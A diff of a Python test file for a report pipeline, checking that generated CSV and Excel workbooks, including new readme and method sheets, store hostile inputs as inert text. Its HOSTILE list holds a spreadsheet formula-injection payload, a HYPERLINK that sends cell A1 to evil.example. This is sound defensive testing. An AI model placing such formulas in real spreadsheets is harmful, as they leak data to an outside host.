@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from pipeline.inert import csv_bytes, inert_cell, inert_to_value, read_csv_text
 from pipeline.report.outputs import write_csv
-from pipeline.report.workbook import build_workbook
+from pipeline.report.workbook import TextRow, WorkbookContent, build_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
@@ -56,11 +56,14 @@ def test_csv_round_trip_changes_nothing(tmp_path: Path) -> None:
 
 def test_workbook_has_no_formula_and_keeps_numbers() -> None:
     frame = pd.DataFrame({"contract_id": HOSTILE, "n": range(len(HOSTILE)), "pct": [-1.5] * len(HOSTILE)})
-    book = load_workbook(io.BytesIO(build_workbook([("Revue par contrat", frame)])))
+    notes = [TextRow("Corpus", HOSTILE[0]), TextRow(HOSTILE[1], "valeur")]
+    content = WorkbookContent(readme=notes, tables=[("Revue par contrat", frame)], method=notes)
+    book = load_workbook(io.BytesIO(build_workbook(content)))
     sheet = book["Revue par contrat"]
-    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
-    assert all(cell.data_type != "f" for cell in cells)
+    for each in book.worksheets:
+        assert all(cell.data_type != "f" for row in each.iter_rows() for cell in row), each.title
     texts = [cell.value for cell in sheet["A"][1:]]
     assert texts == ["'" + text.replace("\r", "\n") for text in HOSTILE]  # XML stores line ends as \n
     assert [cell.value for cell in sheet["B"][1:]] == list(range(len(HOSTILE)))
     assert sheet["C2"].value == pytest.approx(-0.015)
+    assert book["Méthode"]["B2"].value == "'" + HOSTILE[0] and book["Lisez-moi"]["A2"].value == "'" + HOSTILE[1]
